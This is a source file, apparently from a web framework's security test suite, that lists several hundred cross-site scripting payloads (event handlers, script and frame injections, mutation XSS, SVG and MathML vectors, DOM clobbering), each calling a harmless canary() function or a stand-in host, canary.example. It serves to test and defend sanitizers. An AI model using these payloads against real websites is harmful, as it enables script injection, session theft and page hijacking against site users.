// Payloads that are markup: elements, event handlers, and markup that is parsed differently the second time. Each calls
// `canary()`, which the browser of the experiment counts.

const handlers = [
  '<img src=x onerror=canary()>', '<img src onerror=canary()>', '<image src=x onerror=canary()>', '<IMG SRC=X ONERROR=canary()>',
  '<img/src=x/onerror=canary()>', '<img\nsrc=x\nonerror=canary()>', '<img\tsrc=x\tonerror\t=\tcanary()>', '<img\fsrc=x\fonerror=canary()>',
  '<img src=x onerror="canary()"', '<img src=x onerror=&#99;anary()>', '<img src=x onerror=&#x63;anary&lpar;&rpar;>',
  '<img src=x onerror="window[\'can\'+\'ary\']()">', '<img src=x onerror=canary``>', '<img src=x:x onerror=canary()//>',
  '<img srcset=x onerror=canary()>', '<img src="" loading=eager onerror=canary()>', '<picture><source srcset=x><img onerror=canary()></picture>',
  '<img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 onload=canary()>',
  '<video src=x onerror=canary()></video>', '<video><source onerror=canary()></video>', '<audio src=x onerror=canary()>',
  '<video poster=javascript:canary() src=x onerror=canary()>', '<object data=x onerror=canary()></object>', '<embed src=x onerror=canary()>',
  '<iframe onload=canary()></iframe>', '<iframe src=about:blank onload=canary()>', '<details open ontoggle=canary()>x</details>',
  '<details ontoggle=canary() open>', '<body onload=canary()>', '<body onpageshow=canary()>', '<body onhashchange=canary()><script>location.hash=1</script>',
  '<input autofocus onfocus=canary()>', '<select autofocus onfocus=canary()>', '<textarea autofocus onfocus=canary()>', '<button autofocus onfocus=canary()>x</button>',
  '<a href=# autofocus onfocus=canary()>x</a>', '<p tabindex=1 autofocus onfocus=canary()>x</p>', '<p contenteditable autofocus onfocus=canary()>x</p>',
  '<input onblur=canary() autofocus><input autofocus>', '<marquee onstart=canary()>x</marquee>', '<marquee loop=1 width=0 onfinish=canary()>x</marquee>',
  '<p onclick=canary()>x</p>', '<p onmouseover=canary()>x</p>', '<p onpointerover=canary() style="font-size:90px">x</p>', '<p onpointerrawupdate=canary()>x</p>',
  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=canary()>x</p>', '<p style="animation:pulse 1s" onanimationend=canary()>x</p>',
  '<style>p:target{color:red}</style><p ontransitionend=canary() style="transition:color 1s">x</p>', '<form oninput=canary()><input></form>',
  '<form onsubmit=canary()><button>x</button></form>', '<form onformdata=canary()><button>x</button></form>', '<dialog open onclose=canary()>x</dialog>',
  '<dialog onbeforetoggle=canary() popover id=d>x</dialog><button popovertarget=d>y</button>', '<div onbeforematch=canary() hidden=until-found>x</div>',
  '<div onscroll=canary() style="overflow:auto;height:1px"><br><br><br></div>', '<div onscrollend=canary()>x</div>', '<link rel=stylesheet href=x onerror=canary()>',
  '<link rel=preload as=script href=x onerror=canary()>', '<script src=x onerror=canary()></script>', '<track onerror=canary()>', '<video controls><track default src=x onerror=canary()></video>',
  '<p oncut=canary() oncopy=canary() onpaste=canary()>x</p>', '<p oncontextmenu=canary()>x</p>', '<p onwheel=canary()>x</p>', '<p onauxclick=canary()>x</p>',
  '<p draggable=true ondragstart=canary()>x</p>', '<p onsecuritypolicyviolation=canary()>x</p><iframe src=https://canary.example></iframe>',
  '<meter onmouseenter=canary()>x</meter>', '<keygen autofocus onfocus=canary()>', '<isindex type=image src=1 onerror=canary()>', '<x onclick=canary()>x</x>',
  '<x-y contenteditable autofocus onfocus=canary()>x</x-y>', '<bgsound src=javascript:canary()>', '<layer src=x onload=canary()>',
] // biome-ignore format: a list

const scripts = [
  '<script>canary()</script>', '<SCRIPT>canary()</SCRIPT>', '<script >canary()</script >', '<script/x>canary()</script>', '<script\n>canary()</script\n>',
  '<script>canary()//', '<script>canary()</script foo>', '<script type=module>canary()</script>', '<script type="text/javascript">canary()</script>',
  '<script type="text/&#106;avascript">canary()</script>', '<script src="data:text/javascript,canary()"></script>', '<script src=data:,canary()></script>',
  '<script src="data:;base64,Y2FuYXJ5KCk="></script>', '<script async src=data:,canary()></script>', '<script type=module src="data:text/javascript,canary()"></script>',
  '<script>import("data:text/javascript,canary()")</script>', '<script type=importmap>{"imports":{"x":"data:text/javascript,canary()"}}</script><script type=module>import"x"</script>',
  '<script src=https://canary.example/x.js></script>', '<script src=//canary.example/x.js></script>', '<scr<script>ipt>canary()</scr</script>ipt>', '<<script>canary()//<</script>',
  '<script>eval("canary()")</script>', '<script>Function("canary()")()</script>', '<script>setTimeout("canary()")</script>', '<script nonce="">canary()</script>',
  '<script nomodule>canary()</script>', '<script language=javascript>canary()</script>', '<script event=onload for=window>canary()</script>', '<script>/*<!--*/canary()</script>',
  '<script><!--\ncanary()\n--></script>', '<script>{onerror=canary}throw 1</script>', '<script defer>canary()</script>', '<svg><script>canary()</script></svg>',
  '<svg><script href="data:,canary()" /></svg>', '<svg><script>canary&#40;&#41;</script></svg>', '<svg><script xlink:href=data:,canary()></script></svg>', '<math><script>canary()</script></math>',
  '<script>document.write("<img src=x onerror=canary()>")</script>', '<script>location="javascript:canary()"</script>', '<noscript><img src=x onerror=canary()></noscript>',
  '<script>new Worker("data:text/javascript,fetch(`https://canary.example`)")</script>', '<script>fetch("https://canary.example/")</script><img src=https://canary.example/p.gif>',
] // biome-ignore format: a list

const frames = [
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=parent.canary()&gt;"></iframe>', '<iframe src="javascript:parent.canary()"></iframe>',
  '<iframe src="data:text/html,<script>canary()</script>"></iframe>', '<iframe src=" &#14; javascript:parent.canary()"></iframe>', '<object data="javascript:canary()"></object>',
  '<object data="data:text/html,<script>canary()</script>"></object>', '<embed src="javascript:canary()">', '<embed src="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==">',
  '<frameset><frame src="javascript:parent.canary()"></frameset>', '<frameset onload=canary()>', '<fencedframe src="javascript:canary()"></fencedframe>', '<portal src="javascript:canary()"></portal>',
  '<applet code="javascript:canary()"></applet>', '<form action="javascript:canary()"><input type=submit autofocus></form>', '<form><button formaction="javascript:canary()">x</button></form>',
  '<form id=f action="javascript:canary()"></form><button form=f>x</button>', '<input type=image src=x formaction="javascript:canary()">', '<isindex action="javascript:canary()" type=image>',
  '<form action=https://canary.example method=post><input name=q><button>x</button></form>', '<base href="javascript:/canary();//"><a href="x">x</a>', '<base href=https://canary.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:canary()">', '<meta http-equiv=refresh content="0;url=data:text/html,<script>canary()</script>">', '<meta http-equiv=set-cookie content="a=b">',
  '<meta http-equiv=content-security-policy content="script-src *"><script>canary()</script>', '<link rel=import href="data:text/html,<script>canary()</script>">', '<link rel=prefetch href=https://canary.example/>',
  '<link rel=manifest href=https://canary.example/>', '<a href=https://canary.example ping=https://canary.example/ping target=_blank>x</a>',
] // biome-ignore format: a list

/** Mutation XSS: harmless when parsed once, but not when parsed again as another kind of content. */
const mutations = [
  '<svg></p><style><a id="</style><img src=1 onerror=canary()>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
  '<math><mtext><table><mglyph><style><math><img src onerror=canary()>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<math><mi//xlink:href="data:x,<script>canary()</script>">', '<svg><foreignObject><p><style><!--</style></p><img src=x onerror=canary()>--></foreignObject></svg>',
  '<svg><desc><table><svg><style><!--</style><img src=x onerror=canary()>', '<svg><title><style></title><img src=x onerror=canary()>', '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<noembed><p title="</noembed><img src=x onerror=canary()>">', '<noframes><p title="</noframes><img src=x onerror=canary()>">', '<xmp><p title="</xmp><img src=x onerror=canary()>">',
  '<iframe><p title="</iframe><img src=x onerror=canary()>">', '<textarea><p title="</textarea><img src=x onerror=canary()>">', '<title><p title="</title><img src=x onerror=canary()>">',
  '<style><p title="</style><img src=x onerror=canary()>">', '<template><p title="</template><img src=x onerror=canary()>">', '<select><template><img src=x onerror=canary()></template></select>',
  '<select><style></select><img src=x onerror=canary()></style>', '<table><tr><td><svg><style></table><img src=x onerror=canary()>', '<p><table><style></p><img src=x onerror=canary()>',
  '<!--><img src=x onerror=canary()>-->', '<!---><img src=x onerror=canary()>-->', '<!--!><img src=x onerror=canary()>', '<!-- --!><img src=x onerror=canary()> -->', '<!><img src=x onerror=canary()>',
  '<?x><img src=x onerror=canary()>', '<?xml version="1.0"?><img src=x onerror=canary()>', '<![CDATA[<img src=x onerror=canary()>]]>', '<svg><![CDATA[><img src=x onerror=canary()>]]></svg>',
  '<math><![CDATA[</math><img src=x onerror=canary()>]]>', '</><img src=x onerror=canary()>', '</ <img src=x onerror=canary()>', '<a<img src=x onerror=canary()>', '<b <script>canary()</script>',
  '<plaintext><img src=x onerror=canary()>', '<listing>&lt;img src=x onerror=canary()&gt;</listing>', '<pre>&lt;img src=x onerror=canary()&gt;</pre>', '&lt;img src=x onerror=canary()&gt;',
  '&amp;lt;img src=x onerror=canary()&amp;gt;', '<p title="&lt;img src=x onerror=canary()&gt;">x</p>', '<img src="x` `<script>canary()</script>"` `>', '<img title="`onerror=canary()` src=x',
  '<svg><p><svg><style><g title="</style><img src=x onerror=canary()>">', '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=canary()>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=canary()></annotation-xml></math>', '<svg><a><rect><style><!--</a><img src=x onerror=canary()>', '<d<d><img src=x onerror=canary()>',
  '<ruby><rtc><svg><style></rtc><img src=x onerror=canary()>', '<option><style></option></select><img src=x onerror=canary()></style>', '<x><image><x><svg><p><img src=x onerror=canary()>',
  '<b><i><u><a><b><i><u><a><style><!--</style><img src=x onerror=canary()>', '<a href="</a><img src=x onerror=canary()>">x</a>', '<frameset><noframes></frameset><img src=x onerror=canary()>',
] // biome-ignore format: a list

const vectors = [
  '<svg onload=canary()>', '<svg/onload=canary()>', '<svg><svg onload=canary()></svg></svg>', '<svg><g onload=canary()></g></svg>', '<svg><image href=x onerror=canary()>', '<svg><image xlink:href=x onerror=canary()>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>', '<svg><set onbegin=canary() attributeName=x to=1>', '<svg><animateTransform onbegin=canary() attributeName=transform>', '<svg><animate attributeName=x onend=canary() dur=1ms>',
  '<svg><a href="javascript:canary()"><text y=20>x</text></a></svg>', '<svg><a xlink:href="javascript:canary()"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:canary()"/><text y=20>x</text></a></svg>', '<svg><a><set attributeName=href to="javascript:canary()"/><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=canary() /></svg>#x"></svg>', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">canary()</handler></svg>',
  '<svg><foreignObject><iframe onload=canary()></iframe></foreignObject></svg>', '<svg><foreignObject><body onload=canary()></foreignObject></svg>', '<svg><discard onbegin=canary()>', '<svg><style>@import "https://canary.example/x.css";</style></svg>',
  '<math href="javascript:canary()">x</math>', '<math><maction actiontype="statusline" xlink:href="javascript:canary()">x</maction></math>', '<math><a href="javascript:canary()">x</a></math>', '<svg><tspan onclick=canary()>x</tspan></svg>',
] // biome-ignore format: a list

/** DOM clobbering: elements with names that scripts of a page may read from `document` or `window`. */
const clobbering = [
  '<form id=document></form>', '<img name=cookie>', '<img name=currentScript>', '<form name=body></form>', '<a id=location href="javascript:canary()">x</a>', '<a id=defaultView></a><a id=defaultView name=x href="javascript:canary()">x</a>',
  '<form id=forms><input name=action></form>', '<input name=attributes form=x><form id=x><input name=parentNode></form>', '<iframe name=fetch srcdoc="x"></iframe>', '<img id=localStorage>', '<embed name=getElementById>',
  '<object name=querySelector></object>', '<form name=astro><input name=visible></form>', '<p id=__proto__ class=constructor>x</p>', '<astro-island uid=x component-url="data:text/javascript,canary()" renderer-url="data:text/javascript,canary()" client=load opts="{}" props="{}"></astro-island>',
  '<astro-island component-url="javascript:canary()" before-hydration-url="data:text/javascript,canary()" client="only" ssr></astro-island>', '<template data-astro-template><img src=x onerror=canary()></template>',
] // biome-ignore format: a list

export const markup = [...handlers, ...scripts, ...frames, ...mutations, ...vectors, ...clobbering]
